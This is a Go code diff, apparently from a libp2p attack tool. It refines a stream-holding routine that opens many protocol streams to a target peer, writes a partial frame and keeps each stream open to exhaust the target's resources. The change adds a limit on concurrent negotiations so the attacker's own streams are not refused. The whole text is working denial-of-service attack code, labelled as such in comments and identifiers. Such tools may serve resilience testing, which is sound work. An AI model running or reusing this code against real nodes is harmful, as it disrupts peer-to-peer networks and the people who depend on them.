@@ -171,6 +171,10 @@ func holdStreams(ctx context.Context, c *counters, src string, target peer.AddrI
 	if h.Network().Connectedness(target.ID) != network.Connected {
 		once.Do(func() { close(gone) })
 	}
+	// A few negotiations at a time: streams still negotiating sit in the
+	// target's transient scope, and piling them up there would only
+	// refuse the attacker's own.
+	opening := make(chan struct{}, 16)
 	var wg sync.WaitGroup
 	for range cfg.Streams {
 		wg.Add(1)
@@ -182,7 +186,7 @@ func holdStreams(ctx context.Context, c *counters, src string, target peer.AddrI
 					return
 				default:
 				}
-				if !holdOne(ctx, c, h, target.ID, cfg, gone) {
+				if !holdOne(ctx, c, h, target.ID, cfg, gone, opening) {
 					pause(ctx, 200*time.Millisecond)
 				}
 			}
@@ -197,25 +201,20 @@ func holdStreams(ctx context.Context, c *counters, src string, target peer.AddrI
 }
 
 // holdOne opens one stream and holds it for Reopen; false when refused.
-func holdOne(ctx context.Context, c *counters, h host.Host, p peer.ID, cfg StreamsConfig, gone <-chan struct{}) bool {
-	sctx, cancel := context.WithTimeout(ctx, 3*time.Second)
-	defer cancel()
-	s, err := h.Network().NewStream(network.WithNoDial(sctx, "attack"), p)
-	if err != nil {
-		c.streamsRefused.Add(1)
+func holdOne(ctx context.Context, c *counters, h host.Host, p peer.ID, cfg StreamsConfig, gone <-chan struct{}, opening chan struct{}) bool {
+	select {
+	case opening <- struct{}{}:
+	case <-gone:
+		return true
+	case <-ctx.Done():
+		return true
+	}
+	s, ok := openOne(ctx, c, h, p, cfg.Protocol)
+	<-opening
+	if !ok {
 		return false
 	}
 	defer s.Reset()
-	_ = s.SetDeadline(time.Now().Add(3 * time.Second))
-	if err := msmux.SelectProtoOrFail(cfg.Protocol, s); err != nil {
-		c.streamsRefused.Add(1)
-		return false
-	}
-	if _, err := s.Write([]byte{0}); err != nil {
-		c.streamsReset.Add(1)
-		return false
-	}
-	_ = s.SetDeadline(time.Time{})
 	c.streamsOK.Add(1)
 	c.hold(1)
 	defer c.hold(-1)
@@ -240,6 +239,30 @@ func holdOne(ctx context.Context, c *counters, h host.Host, p peer.ID, cfg Strea
 	s.Reset()
 	<-read
 	return true
+}
+
+// openOne opens and negotiates a stream and writes one byte of a frame.
+func openOne(ctx context.Context, c *counters, h host.Host, p peer.ID, proto protocol.ID) (network.Stream, bool) {
+	sctx, cancel := context.WithTimeout(ctx, 5*time.Second)
+	defer cancel()
+	s, err := h.Network().NewStream(network.WithNoDial(sctx, "attack"), p)
+	if err != nil {
+		c.streamsRefused.Add(1)
+		return nil, false
+	}
+	_ = s.SetDeadline(time.Now().Add(5 * time.Second))
+	if err := msmux.SelectProtoOrFail(proto, s); err != nil {
+		s.Reset()
+		c.streamsRefused.Add(1)
+		return nil, false
+	}
+	if _, err := s.Write([]byte{0}); err != nil {
+		s.Reset()
+		c.streamsReset.Add(1)
+		return nil, false
+	}
+	_ = s.SetDeadline(time.Time{})
+	return s, true
 }
 
 func pause(ctx context.Context, d time.Duration) {
